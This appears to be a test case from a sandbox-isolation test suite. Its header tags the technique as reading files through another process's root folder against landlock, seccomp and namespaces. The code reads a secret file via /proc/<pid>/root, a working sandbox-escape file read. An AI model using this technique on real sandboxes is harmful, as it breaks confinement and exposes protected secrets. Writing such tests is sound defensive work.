# class: reading files
# technique: through the root folder of another process
# layers: landlock, seccomp, namespaces
# code: native
# witness: secret

fd = os.open(f"/proc/{host['decoy']['inside']}/root{host['secret']}", os.O_RDONLY)
return escaped(os.read(fd, 4096).decode())
